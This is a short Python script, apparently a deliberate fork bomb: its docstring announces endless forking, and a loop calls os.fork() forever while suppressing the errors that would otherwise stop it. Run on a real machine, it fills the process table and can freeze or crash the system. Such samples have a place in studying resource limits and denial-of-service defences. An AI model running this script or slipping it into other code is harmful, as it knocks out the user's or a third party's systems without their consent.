"""Forks without end, in every process."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
